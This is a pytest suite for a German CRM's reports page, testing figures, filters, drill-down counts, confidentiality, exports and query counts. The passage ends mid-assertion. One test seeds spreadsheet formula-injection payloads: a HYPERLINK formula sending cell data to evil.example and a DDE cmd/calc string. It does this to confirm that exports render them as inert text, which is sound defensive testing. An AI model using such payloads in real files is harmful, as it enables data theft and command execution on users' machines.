"""The reports page: figures for each role, filters checked beside their fields, every number
leading to the list of exactly the leads it counts, exports that say what the page says, and a
number of queries that does not grow with the data."""

import csv
import datetime
import io
import re
from dataclasses import dataclass, field
from datetime import UTC, timedelta
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from flask import template_rendered
from openpyxl import load_workbook

from crm.core.models import local_zone
from crm.events import services as event_services
from crm.extensions import db
from crm.leads import services as lead_services
from crm.leads.models import Lead
from crm.reports import queries as report_queries
from crm.reports import views as report_views
from tests.conftest import log_in
from tests.factories import (
    DECISION_FIELDS,
    PROSPECT_FIELDS,
    make_activity,
    make_contact,
    make_event,
    make_lead,
    make_organisation,
    make_user,
)

SECTIONS = ("results", "pipeline", "conversion", "losses", "events", "partners", "team")
TABLES = ("results_total", "results_by_investment_type", "results_by_origin",
          "results_by_country", "results_by_sector", "results_realised", "pipeline_by_stage",
          "pipeline_by_sector", "pipeline_by_country", "pipeline_decisions", "conversion",
          "stalled_per_owner", "stalled", "losses_by_reason", "losses_by_stage",
          "losses_by_destination", "events", "partners", "team")
RESULTS_AND_PIPELINE = [key for key in TABLES if key.startswith(("results", "pipeline"))]
LONG_REASON = ("Der Investor hat nach einer langen Prüfung der Standorte, der Fördermittel, der "
               "Flächen und der Fachkräftelage in der Region entschieden, das Werk doch näher "
               "an seinem Hauptkunden zu bauen; die Förderquote dort war höher und die "
               "Genehmigung schneller zu haben als bei uns.")


# -- Reading the page ----------------------------------------------------------------------

@dataclass
class Cell:
    key: str | None
    text: str = ""
    href: str | None = None
    numeric: bool = False


@dataclass
class ReportTable:
    caption: str = ""
    headers: list = field(default_factory=list)
    rows: list = field(default_factory=list)

    def row(self, label):
        """The cells of the row whose first cell says `label`, by column key."""
        for row in self.rows:
            if row[0].text == label:
                return {cell.key: cell for cell in row}
        raise AssertionError(f"No row {label!r} in {self.caption!r}: "
                             f"{[row[0].text for row in self.rows]}")


class _TableReader(HTMLParser):
    """The report tables of a page (`<table id="table-...">`), cell by cell."""

    def __init__(self):
        super().__init__()
        self.tables, self._table, self._part, self._cell, self._in_caption = {}, None, None, \
            None, False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and (attrs.get("id") or "").startswith("table-"):
            self._table = self.tables[attrs["id"].removeprefix("table-")] = ReportTable()
        elif self._table is None:
            return
        elif tag == "caption":
            self._in_caption = True
        elif tag in ("thead", "tbody"):
            self._part = tag
        elif tag == "tr" and self._part == "tbody":
            self._table.rows.append([])
        elif tag in ("th", "td"):
            if self._part == "thead":
                self._cell = Cell(None)
            else:
                key = "key" if tag == "th" else attrs.get("data-key")
                self._cell = Cell(key, numeric="text-end" in (attrs.get("class") or ""))
        elif tag == "a" and self._cell is not None:
            self._cell.href = attrs.get("href")

    def handle_endtag(self, tag):
        if self._table is None:
            return
        if tag == "caption":
            self._in_caption = False
        elif tag in ("th", "td") and self._cell is not None:
            self._cell.text = " ".join(self._cell.text.split())
            if self._part == "thead":
                self._table.headers.append(self._cell.text)
            else:
                self._table.rows[-1].append(self._cell)
            self._cell = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data):
        if self._in_caption:
            self._table.caption += data.strip()
        elif self._cell is not None:
            self._cell.text += data


def report_tables(html):
    reader = _TableReader()
    reader.feed(html)
    return reader.tables


def number(text):
    """A number as the German page writes it: `1.234.567 €` is 1234567, `12,5 %` is 12.5."""
    cleaned = re.sub(r"[\s\u00a0\u202f€%]", "", text).replace(".", "").replace(",", ".")
    return float(cleaned) if "." in cleaned else int(cleaned)


def list_count(client, url):
    """The number of leads the lead list says it shows for `url`."""
    response = client.get(url)
    assert response.status_code == 200, url
    match = re.search(r'<dl class="[^"]*\blead-totals\b[^"]*".*?<dd[^>]*>([^<]*)<',
                      response.get_data(as_text=True), re.DOTALL)
    assert match, f"no totals on {url}"
    return number(match.group(1))


def field_error(html, name):
    match = re.search(rf'<div class="invalid-feedback d-block" id="error-{name}">([^<]*)<', html)
    return match.group(1).strip() if match else None


def section_headings(html):
    return dict(re.findall(r'<h2[^>]*id="heading-(\w+)"[^>]*>([^<]*)<', html))


# -- Making the data -----------------------------------------------------------------------

def this_year():
    return datetime.datetime.now(local_zone()).year


def won_lead(owner, confirmer, *, won_at=None, **fields):
    """A lead taken through every stage by `owner` and confirmed as won by `confirmer`."""
    lead = make_lead(actor=owner, commit=False, **{**DECISION_FIELDS, **fields})
    for stage in ("prospect", "active", "decision"):
        lead_services.change_stage(lead, stage, actor=owner)
    lead_services.change_stage(lead, "won", actor=confirmer)
    if won_at is not None:
        lead.won_confirmed_at = won_at
    db.session.commit()
    return lead


def open_lead(owner, stage="prospect", **fields):
    lead = make_lead(actor=owner, commit=False, **{**DECISION_FIELDS, **fields})
    for step in ("prospect", "active", "decision"):
        if stage == "lead":
            break
        lead_services.change_stage(lead, step, actor=owner)
        if step == stage:
            break
    db.session.commit()
    return lead


def closed_lead(owner, status, reason, *, lost_to=None, stage="prospect", **fields):
    lead = open_lead(owner, stage, **fields)
    lead_services.change_status(lead, status, actor=owner, reason=reason,
                                closed_on=datetime.datetime.now(UTC).date(), lost_to=lost_to)
    db.session.commit()
    return lead


def moment(year, month, day):
    return datetime.datetime(year, month, day, 10, 0, tzinfo=UTC)


@dataclass
class Agency:
    manager: object
    anna: object
    ben: object
    optonet: object
    chamber: object
    trip: object
    breakfast: object
    seminar: object


@pytest.fixture
def agency(app):
    """A small agency's year: wins, open, lost and abandoned leads in several sectors and
    countries, a trip with a breakfast that a partner co-organised, a lead that partner
    referred, a lead two partners brought, a stalled lead, a win taken back, a deleted lead,
    and a confidential lead with Anna on its team."""
    year = this_year()
    manager = make_user(role="manager", name="Mia Managerin")
    anna, ben = make_user(name="Anna Albers"), make_user(name="Ben Brandt")
    optonet = make_organisation(name="OptoNet e.V.", kind="partner")
    chamber = make_organisation(name="IHK Erfurt", kind="chamber")
    trip = make_event(name="Delegationsreise Korea", kind="trip", starts_on=f"{year}-03-01",
                      ends_on=f"{year}-03-06", partner_ids=[optonet.id])
    breakfast = make_event(name="Business Breakfast Seoul", starts_on=f"{year}-03-02",
                           parent_id=trip.id)
    seminar = make_event(name="Investorenseminar Erfurt", kind="investor_seminar",
                         starts_on=f"{year}-05-12")
    for contact in (make_contact(), make_contact()):
        event_services.set_attendance(breakfast, contact, "met", actor=anna)
    db.session.commit()

    won_lead(anna, manager, title="Batteriewerk Busan", sector="automotive", country="KR",
             source_event_id=breakfast.id, won_at=moment(year, 2, 10))
    won_lead(ben, manager, title="Optikzentrum Jena", sector="optics_photonics", country="DE",
             investment_type="expansion", capex_eur=5_000_000, new_jobs=40,
             safeguarded_jobs=10, realised_capex_eur=4_500_000, referral_partner_id=optonet.id,
             won_at=moment(year, 1, 1))
    won_lead(anna, manager, title="Zulieferer Ohio", sector="automotive", country="US",
             won_at=moment(year - 1, 6, 1))
    taken_back = won_lead(ben, manager, title="Rückzieher Graz", sector="automotive",
                          country="AT", won_at=moment(year, 2, 1))
    lead_services.change_stage(taken_back, "decision", actor=manager)
    open_lead(anna, "prospect", title="Sensorfabrik Daegu", sector="automotive", country="KR",
              source_event_id=breakfast.id, referral_partner_id=chamber.id)
    open_lead(ben, "active", title="Reinraum Dresden", sector="sensors", country=None,
              likelihood="high", referral_partner_id=chamber.id,
              expected_decision_on=datetime.date.today() + timedelta(days=30))
    open_lead(ben, "lead", title="Erstkontakt Messe", source_event_id=seminar.id)
    open_lead(ben, "active", title="Geheimprojekt Nord", sector="automotive", country="KR",
              likelihood="low", is_confidential=True, team_member_ids=[anna.id])
    closed_lead(anna, "lost", "Förderquote zu niedrig", lost_to="Polen", title="Gießerei Wuhan",
                sector="automotive", country="CN")
    closed_lead(ben, "abandoned", "Projekt gestoppt", title="Chipfabrik Austin",
                sector="sensors", country="US", stage="lead")
    stalled = open_lead(anna, "prospect", title="Stilles Projekt", sector="machinery",
                        country="CH")
    stalled.created_at = datetime.datetime.now(UTC) - timedelta(days=60)
    deleted = open_lead(ben, "prospect", title="Gelöschtes Projekt", sector="automotive")
    lead_services.delete_lead(deleted, actor=ben)
    db.session.commit()
    return Agency(manager, anna, ben, optonet, chamber, trip, breakfast, seminar)


def linking(table, argument):
    """The cells of the row whose numbers link with `argument` (such as `sector=automotive`)."""
    for row in table.rows:
        if any(cell.href and argument in cell.href.split("?", 1)[-1].split("&")
               for cell in row):
            return {cell.key: cell for cell in row}
    raise AssertionError(f"no row of {table.caption!r} links with {argument}")


def drill_downs(html):
    """(table, column, number shown, address) of every number on the page that links to the
    lead list."""
    found = []
    for key, table in report_tables(html).items():
        for row in table.rows:
            for cell in row:
                if cell.href and cell.href.startswith("/leads?"):
                    found.append((key, cell.key, number(cell.text), cell.href))
    return found


# -- The page ------------------------------------------------------------------------------

@pytest.mark.parametrize("role", ["member", "manager", "admin"])
def test_the_page_shows_every_section_to_every_role(login, role):
    _, client = login(role)
    response = client.get("/reports")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert '<html lang="de">' in html
    assert set(section_headings(html)) == set(SECTIONS)
    assert set(report_tables(html)) == set(TABLES)
    year = this_year()
    assert f"01.01.{year}" in html and f"31.12.{year}" in html  # German dates
    # Members are told that they see their own figures only.
    assert ('class="alert alert-info" role="status"' in html) == (role == "member")


def test_the_page_is_in_german_by_default_and_in_english_when_asked(app):
    """The section headings are translated: a German user reads other words than an English
    one (but for "Pipeline", which is the same in both)."""
    german = log_in(app.test_client(), make_user(role="manager", language="de"))
    english = log_in(app.test_client(), make_user(role="manager", language="en"))
    headings_de = section_headings(german.get("/reports").get_data(as_text=True))
    headings_en = section_headings(english.get("/reports").get_data(as_text=True))
    assert headings_en["results"] == "Results"
    untranslated = [name for name in SECTIONS
                    if name != "pipeline" and headings_de[name] == headings_en[name]]
    assert not untranslated, f"headings still in English on the German page: {untranslated}"


def test_an_anonymous_visitor_is_sent_to_log_in(client):
    for url in ("/reports", "/reports/all.csv", "/reports/results.xlsx", "/reports/print"):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"], url


# -- Bad input -----------------------------------------------------------------------------

BAD_FILTERS = [
    ("from=31.02.2026", "from"),
    ("from=abc", "from"),
    ("from=2026-02-31", "from"),
    ("from=2026-06-01&to=2026-05-31", "to"),
    ("sector=unknown", "sector"),
    ("country=XX", "country"),
    ("country=de", "country"),
    ("owner=999999", "owner"),
    ("owner=abc", "owner"),
    ("event=-1", "event"),
    ("event=0", "event"),
    ("partner=1e9", "partner"),
    ("stalled=0", "stalled"),
    ("stalled=-5", "stalled"),
    ("stalled=99999", "stalled"),
    ("from=0001-01-01", "from"),
    ("to=9999-12-31", "to"),
    ("from=" + "2" * 5000, "from"),
    ("sector=" + "a" * 5000, "sector"),
    ("owner=" + "1" * 5000, "owner"),
    ("stalled=" + "9" * 5000, "stalled"),
    # "²" is a digit to str.isdigit(), but int() does not read it.
    ("owner=%C2%B2", "owner"),
    ("event=%C2%B2", "event"),
    ("stalled=%C2%B2", "stalled"),
]


@pytest.mark.parametrize("path", ["/reports", "/reports/results.csv", "/reports/print"])
@pytest.mark.parametrize("query", ["from=%FF%FE", "sector=%C3%28", "owner=%ED%A0%80"])
def test_an_address_that_is_not_utf8_is_refused_before_any_figure(login, path, query):
    _, client = login("manager")
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert 'id="table-' not in response.get_data(as_text=True)


def short(query):
    """A readable test id for a query string that may be thousands of characters long."""
    return query if len(query) <= 32 else f"{query[:16]}...({len(query)} characters)"


BAD_FILTER_IDS = [short(query) for query, _ in BAD_FILTERS]


@pytest.mark.parametrize(("query", "name"), BAD_FILTERS, ids=BAD_FILTER_IDS)
def test_a_bad_filter_is_named_beside_its_field_with_no_figures(login, query, name):
    _, client = login("manager")
    response = client.get(f"/reports?{query}")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert field_error(html, name), f"no message beside {name}"
    assert 'id="table-' not in html


@pytest.mark.parametrize("path", ["/reports/results.csv", "/reports/all.xlsx", "/reports/print"])
@pytest.mark.parametrize(("query", "name"), BAD_FILTERS, ids=BAD_FILTER_IDS)
def test_a_bad_filter_gives_no_download_or_print_page(login, path, query, name):
    _, client = login("manager")
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400
    assert "Content-Disposition" not in response.headers
    assert response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert field_error(html, name)
    # Corrected there, the filters lead back to the page, not to another failed download.
    assert 'method="get" action="/reports"' in html
    periods = re.findall(r'class="btn btn-sm [^"]* mb-1" href="([^"]+)"', html)
    assert periods and all(link.startswith("/reports?") for link in periods), periods


def test_the_widest_period_allowed_is_no_error(login):
    """1900 to 2200 is what the message allows, and the period before it is no error either;
    a year beyond is named beside its field."""
    _, client = login("manager")
    for query in ("from=1900-01-01&to=2200-12-31", "from=1900-01-02&to=2200-12-30"):
        response = client.get(f"/reports?{query}")
        assert response.status_code == 200, query
        assert 'id="table-results_total"' in response.get_data(as_text=True)
    for query, name in (("from=1900-01-01&to=9998-12-31", "to"),
                        ("from=1899-12-31&to=2026-12-31", "from")):
        response = client.get(f"/reports?{query}")
        assert response.status_code == 400, query
        assert "1900" in field_error(response.get_data(as_text=True), name), query


def test_a_member_who_sends_an_owner_sees_their_own_figures(login):
    """Members have no owner field: an owner in the address is ignored, not a 400 that marks
    nothing."""
    _, client = login("member")
    for query in ("owner=abc", "owner=999999", "owner=1"):
        response = client.get(f"/reports?{query}")
        assert response.status_code == 200, query
        assert 'id="table-results_total"' in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/reports/nothing.csv", "/reports/results.pdf",
                                  "/reports/all.pdf", "/reports/print.csv",
                                  "/reports/Results.csv", "/reports/results.CSV"])
def test_an_unknown_section_or_format_is_404(login, path):
    _, client = login("manager")
    assert client.get(path).status_code == 404


# -- Drill-down ----------------------------------------------------------------------------

def test_every_number_on_the_page_is_the_count_of_the_list_it_leads_to(app, agency):
    client = log_in(app.test_client(), agency.manager)
    html = client.get("/reports").get_data(as_text=True)
    links = drill_downs(html)
    tables = {table for table, *_ in links}
    # Every kind of table that counts leads has numbers to follow on this data.
    assert {"results_total", "results_by_investment_type", "results_by_origin",
            "results_by_country", "results_by_sector", "pipeline_by_stage",
            "pipeline_by_sector", "pipeline_by_country", "conversion", "stalled_per_owner",
            "losses_by_reason", "losses_by_stage", "losses_by_destination", "events",
            "partners"} <= tables
    wrong = [(table, column, shown, list_count(client, href), href)
             for table, column, shown, href in links if list_count(client, href) != shown]
    assert not wrong, "\n".join(map(str, wrong))


def test_a_loss_with_a_long_or_multiline_reason_leads_to_its_list(login):
    """A reason is free text of up to 20,000 characters; its number still finds its leads."""
    _, client = login("manager")
    owner = make_user()
    closed_lead(owner, "lost", LONG_REASON, lost_to="Polen", title="Gießerei Wuhan")
    closed_lead(owner, "abandoned", "Zu teuer.\r\nZu spät.", title="Chipfabrik Austin")
    links = [link for link in drill_downs(client.get("/reports").get_data(as_text=True))
             if link[0] == "losses_by_reason"]
    assert sorted(shown for _, _, shown, _ in links) == [1, 1]
    wrong = [(shown, list_count(client, href), href) for _, _, shown, href in links
             if list_count(client, href) != shown]
    assert not wrong, "\n".join(map(str, wrong))


def test_a_loss_reason_too_long_for_an_address_is_counted_without_a_link(login):
    """A link longer than a server in front of the app accepts would only lead to an error."""
    _, client = login("manager")
    very_long = " ".join([LONG_REASON] * 8)
    closed_lead(make_user(), "lost", very_long, lost_to="Polen", title="Gießerei Wuhan")
    tables = report_tables(client.get("/reports").get_data(as_text=True))
    (row,) = tables["losses_by_reason"].rows
    cells = {cell.key: cell for cell in row}
    assert number(cells["count"].text) == 1 and cells["count"].href is None


def test_the_hand_counted_figures_of_the_small_agency(app, agency):
    """A few figures counted by hand: the page shows them, and their lists list those leads."""
    client = log_in(app.test_client(), agency.manager)
    tables = report_tables(client.get("/reports").get_data(as_text=True))
    total = tables["results_total"].rows[0]
    cells = {cell.key: cell for cell in total}
    # Busan and Jena this year (Graz was taken back), Ohio the year before.
    assert number(cells["count"].text) == 2
    assert number(cells["capex_eur"].text) == 30_000_000
    assert number(cells["new_jobs"].text) == 160
    assert number(cells["previous_count"].text) == 1
    automotive = linking(tables["results_by_sector"], "sector=automotive")
    assert number(automotive["count"].text) == 1  # Busan; Ohio was last year
    # Open now: Daegu and Graz (prospect/decision), Dresden and the secret one (active),
    # Messe (lead), the stalled one (prospect); not the deleted one.
    stage_total = tables["pipeline_by_stage"].rows[-1]
    assert number(stage_total[1].text) == 6
    stalled = tables["stalled"]
    assert [row[0].text for row in stalled.rows] == ["Stilles Projekt"]
    partners = {row[0].text: {c.key: c for c in row} for row in tables["partners"].rows}
    # OptoNet: Jena (referred, won) and Busan, Daegu (from the breakfast of its trip).
    assert number(partners["OptoNet e.V."]["brought"].text) == 3
    assert number(partners["OptoNet e.V."]["wins"].text) == 2
    assert number(partners["IHK Erfurt"]["open"].text) == 2
    page = client.get(partners["OptoNet e.V."]["wins"].href).get_data(as_text=True)
    assert "Batteriewerk Busan" in page and "Optikzentrum Jena" in page
    assert "Sensorfabrik Daegu" not in page


@pytest.mark.parametrize("filters", ["sector", "country", "partner", "trip", "event",
                                     "owner", "last_year", "stalled"])
def test_the_numbers_still_count_their_lists_with_a_filter(app, agency, filters):
    year = this_year()
    query = {"sector": "sector=automotive", "country": "country=KR",
             "partner": f"partner={agency.optonet.id}", "trip": f"event={agency.trip.id}",
             "event": f"event={agency.breakfast.id}", "owner": f"owner={agency.anna.id}",
             "last_year": f"from={year - 1}-01-01&to={year - 1}-12-31",
             "stalled": "stalled=7"}[filters]
    client = log_in(app.test_client(), agency.manager)
    response = client.get(f"/reports?{query}")
    assert response.status_code == 200
    links = drill_downs(response.get_data(as_text=True))
    assert links
    wrong = [(table, column, shown, list_count(client, href), href)
             for table, column, shown, href in links if list_count(client, href) != shown]
    assert not wrong, "\n".join(map(str, wrong))


def test_the_people_met_at_an_event_or_trip_lead_to_the_list_of_them(app):
    """"People met" counts those met or attended, a trip with its events' people; its link
    lists those contacts, not everyone invited, and not nobody for a trip. So does "new
    contacts"."""
    year = this_year()
    manager = make_user(role="manager")
    trip = make_event(name="Delegationsreise Korea", kind="trip", starts_on=f"{year}-03-01",
                      ends_on=f"{year}-03-06")
    breakfast = make_event(name="Business Breakfast Seoul", starts_on=f"{year}-03-02",
                           parent_id=trip.id)
    for status in ("met", "attended", "invited", "registered"):
        event_services.set_attendance(breakfast, make_contact(), status, actor=manager)
    known = make_contact()
    known.created_at = moment(year - 1, 5, 5)  # in the address book long before the trip
    event_services.set_attendance(breakfast, known, "met", actor=manager)
    db.session.commit()
    client = log_in(app.test_client(), manager)
    events = report_tables(client.get("/reports").get_data(as_text=True))["events"]
    assert len(events.rows) == 2
    wrong = []
    for row in events.rows:
        cells = {c.key: c for c in row}
        assert number(cells["people_met"].text) == 3, row[0].text
        for key in ("people_met", "new_contacts"):
            listed = client.get(cells[key].href).get_data(as_text=True)
            shown = len(set(re.findall(r'<td><a href="/contacts/(\d+)"', listed)))
            if shown != number(cells[key].text):
                wrong.append((row[0].text, key, number(cells[key].text), shown, cells[key].href))
    assert not wrong, wrong


@pytest.mark.parametrize("query", [
    "won_from=0001-01-01", "won_to=9999-12-31", "created_from=0001-01-02&closed=1",
    "created_to=9999-12-31", "won_from=abc", "closed_from=31.12.2026", "stalled=0",
    "stalled=%C2%B2", "stalled=" + "9" * 5000, "reached=nowhere", "origin=mars",
    "brought_by=-1", "lost_reason=" + "x" * 5000, "lost_to=%E2%80%AE"])
def test_the_lead_list_ignores_drill_down_filters_it_cannot_read(login, query):
    """The lead list answers, never a 500, whatever a hand-edited address says."""
    _, client = login("manager")
    assert client.get(f"/leads?{query}").status_code == 200


def test_a_members_numbers_count_their_lists_too(app, agency):
    client = log_in(app.test_client(), agency.anna)
    links = drill_downs(client.get("/reports").get_data(as_text=True))
    assert links
    wrong = [(table, column, shown, list_count(client, href), href)
             for table, column, shown, href in links if list_count(client, href) != shown]
    assert not wrong, "\n".join(map(str, wrong))


# -- Who sees what -------------------------------------------------------------------------

@pytest.fixture
def two_owners(app):
    """A member's and a manager's won automotive leads, and a confidential open automotive
    lead of another member, expecting a decision soon."""
    year = this_year()
    anna, ben = make_user(name="Anna Albers"), make_user(name="Ben Brandt")
    max_, mia = make_user(role="manager", name="Max Meier"), make_user(role="manager",
                                                                       name="Mia Managerin")
    won_lead(anna, mia, title="Batteriewerk Busan", sector="automotive", country="KR",
             won_at=moment(year, 2, 1))
    won_lead(max_, mia, title="Motorenwerk Gera", sector="automotive", country="DE",
             capex_eur=7_000_000, won_at=moment(year, 3, 1))
    open_lead(anna, "prospect", title="Sensorfabrik Daegu", sector="automotive")
    open_lead(ben, "active", title="Geheimprojekt Nord", sector="automotive",
              is_confidential=True, capex_eur=90_000_000,
              expected_decision_on=datetime.date.today() + timedelta(days=20))
    return anna, ben, max_, mia


def test_a_member_sees_only_their_own_leads_figures(app, two_owners):
    anna, _ben, max_, _mia = two_owners
    member = log_in(app.test_client(), anna)
    manager = log_in(app.test_client(), max_)
    mine = report_tables(member.get("/reports").get_data(as_text=True))
    everyone = report_tables(manager.get("/reports").get_data(as_text=True))
    assert number(mine["results_total"].rows[0][1].text) == 1
    assert number(everyone["results_total"].rows[0][1].text) == 2
    assert number(mine["results_total"].rows[0][2].text) == 25_000_000
    assert number(everyone["results_total"].rows[0][2].text) == 32_000_000
    assert [row[0].text for row in mine["results_by_country"].rows] == ["Südkorea"]


def test_a_confidential_lead_counts_for_managers_and_is_named_nowhere_for_a_member(app,
                                                                                   two_owners):
    anna, _ben, max_, _mia = two_owners
    member = log_in(app.test_client(), anna)
    manager = log_in(app.test_client(), max_)
    member_page = member.get("/reports").get_data(as_text=True)
    manager_page = manager.get("/reports").get_data(as_text=True)
    mine, everyone = report_tables(member_page), report_tables(manager_page)
    open_count = [row for row in mine["pipeline_by_stage"].rows][-1][1]
    assert number(open_count.text) == 1  # Daegu only
    assert number(everyone["pipeline_by_stage"].rows[-1][1].text) == 2
    assert number(everyone["pipeline_by_stage"].rows[-1][2].text) == 115_000_000
    assert "Geheimprojekt Nord" in manager_page
    assert "Geheimprojekt Nord" not in member_page
    for path in ("/reports/all.csv", "/reports/all.xlsx", "/reports/print"):
        body = member.get(path).get_data()
        assert b"Geheimprojekt" not in body, path
        if path.endswith(".xlsx"):
            workbook = load_workbook(io.BytesIO(body))
            texts = [str(cell.value) for sheet in workbook for row in sheet.iter_rows()
                     for cell in row if cell.value is not None]
            assert not [text for text in texts if "Geheimprojekt" in text]
    # Its figures are not in the member's export either: only Daegu's 25 million are open.
    pipeline = read_csv(member.get("/reports/pipeline.csv").get_data())
    by_stage = csv_table(pipeline, mine["pipeline_by_stage"].caption)
    assert by_stage[-1][1:3] == ["1", "25000000"]


# -- Exports -------------------------------------------------------------------------------

def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf"), "German Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def csv_table(rows, title):
    """The data rows of the table titled `title` in a CSV export (title, header, rows, gap)."""
    for index, row in enumerate(rows):
        if row == [title]:
            end = next((i for i in range(index + 2, len(rows)) if not rows[i]), len(rows))
            return rows[index + 2:end]
    raise AssertionError(f"no table {title!r} in the export")


def sheet_rows(workbook, title):
    for sheet in workbook:
        if sheet.cell(row=1, column=1).value == title:
            return [list(row) for row in sheet.iter_rows(min_row=3, values_only=True)]
    raise AssertionError(f"no sheet {title!r} in the workbook")


def assert_same_as_page(table, rows, *, typed):
    """The export's rows say what the page's table says: the same numbers (as numbers in a
    workbook), the same texts."""
    assert len(rows) == len(table.rows), table.caption
    for page_row, export_row in zip(table.rows, rows, strict=True):
        assert len(export_row) == len(page_row), table.caption
        for cell, value in zip(page_row, export_row, strict=True):
            where = f"{table.caption}, {page_row[0].text}, {cell.key}"
            if cell.text == "–":
                assert value in ("", None), where
            elif cell.numeric:
                if typed:
                    assert isinstance(value, int | float), where
                    assert value == number(cell.text), where
                else:
                    assert number(value) == number(cell.text), where
            elif isinstance(value, datetime.date):
                assert value.strftime("%d.%m.%Y") == cell.text, where
            else:
                assert str(value).removeprefix("'") == cell.text, where


def test_the_csv_export_says_what_the_page_says(app, agency):
    client = log_in(app.test_client(), agency.manager)
    tables = report_tables(client.get("/reports").get_data(as_text=True))
    for section in ("results", "pipeline"):
        response = client.get(f"/reports/{section}.csv")
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert re.search(r'filename="?lotse-[\w-]+\.csv"?$',
                         response.headers["Content-Disposition"])
        assert response.headers["Cache-Control"] == "no-store"
        body = response.get_data()
        assert b";" in body.splitlines()[1]
        rows = read_csv(body)
        for key in RESULTS_AND_PIPELINE:
            if key.startswith(section):
                assert_same_as_page(tables[key], csv_table(rows, tables[key].caption),
                                    typed=False)
    everything = read_csv(client.get("/reports/all.csv").get_data())
    for key in TABLES:
        csv_table(everything, tables[key].caption)  # every table is in "all"


def test_the_xlsx_export_holds_the_page_numbers_as_numbers(app, agency):
    client = log_in(app.test_client(), agency.manager)
    tables = report_tables(client.get("/reports").get_data(as_text=True))
    for section in ("results", "pipeline", "all"):
        response = client.get(f"/reports/{section}.xlsx")
        assert response.status_code == 200
        assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                     "spreadsheetml.sheet")
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["Content-Disposition"].rstrip('"').endswith(".xlsx")
        assert response.headers["Cache-Control"] == "no-store"
        workbook = load_workbook(io.BytesIO(response.get_data()))
        for key in RESULTS_AND_PIPELINE:
            if section == "all" or key.startswith(section):
                assert_same_as_page(tables[key], sheet_rows(workbook, tables[key].caption),
                                    typed=True)


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "investor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partner": "+49 Partner e.V.",
    "lost_to": "-Polen",
}


def test_names_that_look_like_formulas_come_out_as_text(app):
    manager = make_user(role="manager")
    member = make_user()
    partner = make_organisation(name=HOSTILE["partner"], kind="partner")
    investor = make_organisation(name=HOSTILE["investor"])
    open_lead(member, "active", organisation=investor, title=HOSTILE["title"], likelihood="high",
              referral_partner_id=partner.id,
              expected_decision_on=datetime.date.today() + timedelta(days=10))
    closed_lead(member, "lost", "Förderung", lost_to=HOSTILE["lost_to"], title="Gießerei")
    client = log_in(app.test_client(), manager)
    page = client.get("/reports").get_data(as_text=True)
    for text in HOSTILE.values():
        assert text.replace("&", "&amp;").replace('"', "&#34;").replace("'", "&#39;") in page \
            or text in page, text
    rows = read_csv(client.get("/reports/all.csv").get_data())
    cells = [cell for row in rows for cell in row]
    workbook = load_workbook(io.BytesIO(client.get("/reports/all.xlsx").get_data()))
    sheet_cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
                   if cell.value is not None]
    for name, text in HOSTILE.items():
        assert "'" + text in cells, name
        assert text not in cells, name
        found = [cell for cell in sheet_cells if str(cell.value).endswith(text)]
        assert found, name
        for cell in found:
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), name
    assert not [cell for cell in sheet_cells if cell.data_type == "f"]



# -- Print layout --------------------------------------------------------------------------

def test_the_print_page_holds_the_results_and_no_navigation(app, agency):
    client = log_in(app.test_client(), agency.manager)
    response = client.get("/reports/print")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    tables = report_tables(html)
    assert set(tables) == {key for key in TABLES if key.startswith("results")}
    assert number(tables["results_total"].rows[0][1].text) == 2
    assert "navbar" not in html and "<nav" not in html
    assert "Delegationsreise Korea" not in html  # no other section


# -- Speed ---------------------------------------------------------------------------------

def add_agency_year(manager, number_of_items):
    """`number_of_items` of everything a report counts, each with its own owner, partner and
    event: a won lead from an event, an open lead expecting a decision and stalled, a lost
    lead, a follow-up and a person met."""
    year = this_year()
    for _ in range(number_of_items):
        owner = make_user()
        partner = make_organisation(kind="partner")
        trip = make_event(kind="trip", starts_on=f"{year}-04-01", ends_on=f"{year}-04-05",
                          partner_ids=[partner.id])
        event = make_event(starts_on=f"{year}-04-02", parent_id=trip.id)
        contact = make_contact()
        event_services.set_attendance(event, contact, "met", actor=owner)
        won_lead(owner, manager, source_event_id=event.id, referral_partner_id=partner.id,
                 won_at=moment(year, 2, 2))
        stalled = open_lead(owner, "active", expected_decision_on=datetime.date.today()
                            + timedelta(days=5), referral_partner_id=partner.id)
        stalled.created_at = datetime.datetime.now(UTC) - timedelta(days=90)
        closed_lead(owner, "lost", f"Grund {owner.id}", lost_to=f"Ort {owner.id}")
        make_activity(actor=owner, subject=contact, due_on=datetime.date.today())
        db.session.commit()


def test_the_page_runs_as_many_queries_for_30_of_everything_as_for_3(app, count_queries):
    manager = make_user(role="manager")
    client = log_in(app.test_client(), manager)
    add_agency_year(manager, 3)
    with count_queries() as few:
        assert client.get("/reports").status_code == 200
    add_agency_year(manager, 27)
    with count_queries() as many:
        html = client.get("/reports").get_data(as_text=True)
    assert len(report_tables(html)["team"].rows) == 31
    assert len(many) == len(few), (len(few), len(many))
    assert len(many) <= 30


def test_figures_are_kept_for_a_short_while_when_asked(app_factory):
    """With `REPORTS_CACHE_SECONDS` the same view does not run its queries again."""
    app = app_factory(REPORTS_CACHE_SECONDS=60)
    report_views._cache.clear()
    with app.app_context():
        manager = make_user(role="manager")
        client = log_in(app.test_client(), manager)
        first = client.get("/reports").get_data(as_text=True)
        make_lead(actor=manager, title="Neu", **PROSPECT_FIELDS)
        second = client.get("/reports").get_data(as_text=True)
        assert report_tables(first)["pipeline_by_stage"].rows[-1][1].text == \
